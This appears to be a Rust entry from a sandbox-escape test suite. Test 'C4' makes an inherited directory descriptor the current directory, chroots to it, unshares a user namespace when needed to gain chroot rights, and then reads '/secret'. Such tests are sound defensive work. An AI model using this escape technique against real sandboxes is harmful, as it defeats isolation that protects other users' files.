use std::io;

use crate::attack::{Attack, Control};
use crate::attacks::raw::{self, c, sys};
use crate::needs;

pub(super) const ROW: Attack = Attack {
    id: "C4",
    name: "dirfd-fchdir-chroot",
    what: "makes an inherited folder the current folder, then its root, then reads by absolute path",
    prepare: super::inherited_folder,
    attack,
    control: Control::Chroot,
    needs: &[&needs::USERNS],
    ..Attack::ROW
};

fn attack(args: &[String]) -> io::Result<()> {
    sys!(SYS_fchdir, raw::number(args, 0)?)?;
    if sys!(SYS_chroot, &c(".")).is_err() {
        // A user namespace of its own brings the right to change root.
        sys!(SYS_unshare, libc::CLONE_NEWUSER)?;
        sys!(SYS_chroot, &c("."))?;
    }
    raw::show(raw::openat(libc::AT_FDCWD, "/secret", libc::O_RDONLY)?)
}
